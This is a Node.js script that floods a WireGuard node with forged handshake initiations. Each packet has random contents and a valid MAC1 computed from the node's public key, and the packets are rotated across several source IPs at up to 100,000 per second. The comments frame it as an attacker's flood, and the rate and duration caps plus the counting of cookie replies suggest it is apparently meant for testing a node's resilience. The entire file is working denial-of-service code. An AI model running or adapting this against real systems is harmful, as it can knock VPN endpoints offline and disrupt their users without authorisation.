// A handshake flood as an attacker who knows a node's public key would send it:
// WireGuard initiations with random contents and a valid MAC1 (which needs only
// the public key), so each one gets past the first check.
//   node wg-flood.mjs TARGET_IP PORT PUBKEY_BASE64 RATE_PER_S DURATION_MS SOURCE_IP...
// Sends from every SOURCE_IP in turn (bound sockets), prints one JSON line with what it sent
// and what came back (cookie replies), then exits. Bounded in rate and time.
import { createSocket } from 'node:dgram';
import { randomFillSync } from 'node:crypto';
import { blake2s } from '@noble/hashes/blake2.js';

const [target, portText, pubText, rateText, durationText, ...sources] = process.argv.slice(2);
const port = Number(portText);
const rate = Number(rateText);
const duration = Number(durationText);
if (!target || !(rate > 0 && rate <= 100_000) || !(duration > 0 && duration <= 60_000) || sources.length === 0) {
  process.stderr.write('usage: wg-flood.mjs TARGET_IP PORT PUBKEY_BASE64 RATE_PER_S(<=100000) DURATION_MS(<=60000) SOURCE_IP...\n');
  process.exit(2);
}
const pub = Buffer.from(pubText, 'base64');
const mac1Key = blake2s(Buffer.concat([Buffer.from('mac1----'), pub]));
const messages = Array.from({ length: 512 }, () => {
  const m = Buffer.alloc(148);
  randomFillSync(m);
  m.writeUInt32LE(1, 0); // type 1, three reserved zero bytes
  m.set(blake2s(m.subarray(0, 116), { key: mac1Key, dkLen: 16 }), 116);
  m.fill(0, 132, 148); // no MAC2: we hold no cookie
  return m;
});

let sent = 0;
let replies = 0;
let replyBytes = 0;
const sockets = await Promise.all(
  sources.map(
    (address) =>
      new Promise((resolve) => {
        const s = createSocket('udp4');
        s.on('error', () => {});
        s.on('message', (msg) => {
          replies++;
          replyBytes += msg.length;
        });
        s.bind(0, address, () => resolve(s));
      }),
  ),
);
const TICK_MS = 10;
const perTick = Math.max(1, Math.round((rate * TICK_MS) / 1000));
const started = Date.now();
const timer = setInterval(() => {
  if (Date.now() - started >= duration) {
    clearInterval(timer);
    // A moment for the last replies, then report.
    setTimeout(() => {
      process.stdout.write(`${JSON.stringify({ sent, sentBytes: sent * 148, replies, replyBytes, seconds: (Date.now() - started) / 1000 })}\n`);
      for (const s of sockets) s.close();
    }, 300);
    return;
  }
  for (let i = 0; i < perTick; i++) {
    sockets[sent % sockets.length].send(messages[sent % messages.length], port, target);
    sent++;
  }
}, TICK_MS);
